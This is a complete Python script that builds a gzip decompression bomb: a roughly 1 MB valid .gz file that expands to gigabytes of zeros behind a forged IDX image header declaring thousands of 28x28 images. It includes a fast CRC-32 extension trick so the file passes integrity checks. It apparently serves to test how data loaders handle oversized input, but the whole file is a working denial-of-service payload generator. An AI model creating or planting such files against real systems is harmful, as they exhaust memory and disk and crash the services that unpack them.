#!/usr/bin/env python3
"""Writes a gzip "bomb": an IDX images header declaring COUNT images of 28x28, followed by zeros
up to GIB gibibytes, as a valid .gz of about 1 MB per GiB. Made in well under a second: one
deflated MiB of zeros is repeated (pieces from fresh compressors ended by a full flush can be
concatenated), and the CRC-32 of the zeros is extended without touching them.
usage: gzip_bomb.py OUT [COUNT=60000] [GIB=4]"""
import struct
import sys
import zlib

CHUNK = 1 << 20
MASK = 0xFFFFFFFF


def piece(data):
    c = zlib.compressobj(9, zlib.DEFLATED, -15, 9)
    return c.compress(data) + c.flush(zlib.Z_FULL_FLUSH)


def zeros_crc(crc, n):
    """crc32(data + bytes(n)) from crc = crc32(data). The CRC register step for one zero byte is
    linear over GF(2), so n steps are a 32x32 bit matrix, raised to the power n by squaring."""
    def apply(m, v):
        out, i = 0, 0
        while v:
            if v & 1:
                out ^= m[i]
            v >>= 1
            i += 1
        return out

    # Columns: the register after one zero byte, starting from each single bit (zlib's crc32
    # works on the inverted register, hence the ~ on both sides).
    step = [~zlib.crc32(b"\0", ~(1 << i) & MASK) & MASK for i in range(32)]
    reg = ~crc & MASK
    while n:
        if n & 1:
            reg = apply(step, reg)
        step = [apply(step, col) for col in step]
        n >>= 1
    return ~reg & MASK


def bomb(count, total):
    if total < CHUNK or total % CHUNK:
        raise ValueError("the total must be a positive multiple of 1 MiB")
    first = struct.pack(">4I", 0x803, count, 28, 28).ljust(CHUNK, b"\0")
    body = piece(bytes(CHUNK))
    out = [b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff", piece(first)]
    out += [body] * (total // CHUNK - 1)
    crc = zeros_crc(zlib.crc32(first), total - CHUNK)
    out.append(b"\x03\x00" + struct.pack("<II", crc, total & MASK))  # final empty block, trailer
    return b"".join(out)


if __name__ == "__main__":
    path = sys.argv[1]
    count = int(sys.argv[2]) if len(sys.argv) > 2 else 60000
    gib = int(sys.argv[3]) if len(sys.argv) > 3 else 4
    with open(path, "wb") as f:
        f.write(bomb(count, gib << 30))
